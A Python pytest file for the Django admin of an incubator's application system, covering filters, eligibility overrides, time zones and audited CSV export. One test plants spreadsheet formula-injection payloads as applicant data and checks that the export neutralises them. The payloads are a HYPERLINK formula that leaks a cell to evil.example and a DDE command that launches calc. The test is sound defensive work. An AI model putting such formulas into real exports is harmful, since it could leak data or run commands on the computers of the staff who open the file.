import csv
import datetime
import io
from zoneinfo import ZoneInfo

import pytest
from django.urls import reverse

from applications.models import Application, Call
from applications.services import DraftData, application_save_draft, application_start
from applications.submission import application_submit
from incubator.roles import PROGRAM_MANAGER
from tests.applications.conftest import fill
from tests.applications.factories import add_rules, question
from tests.factories import program_manager


@pytest.fixture
def manager_client(client, call):
    # A manager in Jerusalem editing a call of a program in Casablanca.
    client.force_login(program_manager(call.cohort.program, roles=[PROGRAM_MANAGER], time_zone="Asia/Jerusalem"))
    return client


@pytest.fixture
def two_submitted(call, applicant, other_applicant):
    add_rules(call, ages=None, answer=None)
    eligible = fill(application_start(call=call, applicant=applicant))
    ineligible = fill(application_start(call=call, applicant=other_applicant), region="Elsewhere")
    for application in (eligible, ineligible):
        application_submit(application=application, by=application.applicant)
    return eligible, ineligible


def changelist(client, **params):
    return client.get(reverse("admin:applications_application_changelist"), params).content.decode()


def test_changelist_filters_by_call_status_eligibility_and_region(manager_client, two_submitted, call):
    eligible, ineligible = two_submitted
    row = 'name="_selected_action" value="{}"'
    html = changelist(manager_client, eligibility="ineligible")
    assert row.format(ineligible.pk) in html and row.format(eligible.pk) not in html
    html = changelist(manager_client, region__id__exact=eligible.region_id)
    assert row.format(eligible.pk) in html and row.format(ineligible.pk) not in html
    html = changelist(manager_client, status__exact="submitted", call__id__exact=call.pk)
    assert row.format(eligible.pk) in html and row.format(ineligible.pk) in html
    html = changelist(manager_client, q="Elsewhere")
    assert html.count('name="_selected_action"') == 0
    html = changelist(manager_client, q=ineligible.applicant.email)
    assert row.format(ineligible.pk) in html and row.format(eligible.pk) not in html


def test_change_page_shows_answers_and_a_link_to_the_file(manager_client, two_submitted):
    eligible, _ = two_submitted
    html = manager_client.get(reverse("admin:applications_application_change", args=[eligible.pk])).content.decode()
    stored = eligible.files.get()
    assert "Gnaoua Lab" in html and "Sara Partner" in html
    assert reverse("applications:file", args=[eligible.pk, stored.pk]) in html


# The change form also carries the scoring inline (reviews): its empty management form.
INLINES = {
    f"assignments-{name}": value
    for name, value in [("TOTAL_FORMS", "0"), ("INITIAL_FORMS", "0"), ("MIN_NUM_FORMS", "0"), ("MAX_NUM_FORMS", "0")]
}


def test_override_in_the_admin_needs_a_reason_and_goes_through_the_service(manager_client, two_submitted):
    _, ineligible = two_submitted
    url = reverse("admin:applications_application_change", args=[ineligible.pk])
    response = manager_client.post(url, {"eligibility_override": "eligible", "override_reason": "", **INLINES})
    assert response.status_code == 200  # the form comes back with the error
    ineligible.refresh_from_db()
    assert ineligible.eligibility_override == ""
    manager_client.post(
        url, {"eligibility_override": "eligible", "override_reason": "Moved to Souss-Massa in May", **INLINES}
    )
    ineligible.refresh_from_db()
    assert (ineligible.final_eligibility, ineligible.override_reason) == ("eligible", "Moved to Souss-Massa in May")
    assert ineligible.status == Application.Status.SUBMITTED


def test_csv_export(manager_client, two_submitted):
    eligible, ineligible = two_submitted
    response = manager_client.post(
        reverse("admin:applications_application_changelist"),
        {"action": "export_csv", "_selected_action": [eligible.pk, ineligible.pk]},
    )
    assert response["Content-Type"].startswith("text/csv")
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    header, *data = rows
    assert header[:4] == ["id", "call", "status", "eligibility"] and "Project name" in header
    by_id = {row[0]: row for row in data}
    assert by_id[str(ineligible.pk)][3] == "ineligible"
    assert "deck.pdf" in by_id[str(eligible.pk)]


def test_csv_export_neutralises_formulas_typed_by_applicants(manager_client, call, applicant):
    formula = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
    application = fill(application_start(call=call, applicant=applicant))
    data = DraftData(
        standard={"full_name": formula},
        answers={str(question(call, 1).pk): "@SUM(1+1)*cmd|' /C calc'!A0"},
        team=[{"name": "-2+3", "email": "x@example.org", "role": ""}],
    )
    application_save_draft(application=application, data=data, by=applicant)
    application_submit(application=application, by=applicant)
    response = manager_client.post(
        reverse("admin:applications_application_changelist"),
        {"action": "export_csv", "_selected_action": [application.pk]},
    )
    header, row = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    cells = dict(zip(header, row, strict=True))
    assert cells["full name"] == "'" + formula
    assert cells["Project name"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert cells["team"] == "'-2+3"
    assert cells["phone"] == "'+212 600 000 000"
    assert cells["id"] == str(application.pk) and cells["region"] == "North"
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row)


def test_applications_cannot_be_added_or_deleted_in_the_admin(manager_client, two_submitted):
    eligible, _ = two_submitted
    assert manager_client.get(reverse("admin:applications_application_add")).status_code == 403
    assert manager_client.get(reverse("admin:applications_application_delete", args=[eligible.pk])).status_code == 403


def test_call_admin_with_question_and_rule_inlines(manager_client, call):
    html = manager_client.get(reverse("admin:applications_call_change", args=[call.pk])).content.decode()
    assert "questions-TOTAL_FORMS" in html and "eligibility_rules-TOTAL_FORMS" in html


def test_admin_is_closed_to_applicants(client, applicant):
    client.force_login(applicant)
    response = client.get(reverse("admin:applications_application_changelist"))
    assert response.status_code == 302  # to the admin login


# The call form also carries the scoring inlines (review settings, rubric, quotas): their empty management forms.
CALL_SCORING_INLINES = {
    f"{prefix}-{name}": "0"
    for prefix in ("review_settings", "criteria_set", "quotas")
    for name in ("TOTAL_FORMS", "INITIAL_FORMS")
}


@pytest.mark.parametrize("view", ["add", "change"])
def test_call_times_are_entered_in_the_programs_zone(manager_client, call, view):
    if view == "add":
        url = reverse("admin:applications_call_add")
        call.slug = "new-call"
    else:
        url = reverse("admin:applications_call_change", args=[call.pk])
    data = {
        "cohort": call.cohort_id,
        "title": call.title,
        "slug": call.slug,
        "description": "",
        "opens_at_0": "2030-03-01",
        "opens_at_1": "09:00:00",
        "closes_at_0": "2030-03-31",
        "closes_at_1": "23:59:59",
        "seats": "24",
        "questions-TOTAL_FORMS": "0",
        "questions-INITIAL_FORMS": "0",
        "eligibility_rules-TOTAL_FORMS": "0",
        "eligibility_rules-INITIAL_FORMS": "0",
        **CALL_SCORING_INLINES,
    }
    response = manager_client.post(url, data)
    assert response.status_code == 302
    call = Call.objects.get(slug=call.slug)
    assert call.closes_at == datetime.datetime(2030, 3, 31, 23, 59, 59, tzinfo=ZoneInfo("Africa/Casablanca"))


def test_csv_export_is_audited_about_each_call(manager_client, two_submitted, monkeypatch):
    recorded = []
    monkeypatch.setattr("incubator.exports.audit_record", lambda **entry: recorded.append(entry))
    eligible, ineligible = two_submitted
    manager_client.post(
        reverse("admin:applications_application_changelist"),
        {"action": "export_csv", "_selected_action": [eligible.pk, ineligible.pk]},
    )
    assert [(entry["action"], entry["obj"], entry["note"]) for entry in recorded] == [
        ("export.csv", eligible.call, "applications (2)")
    ]
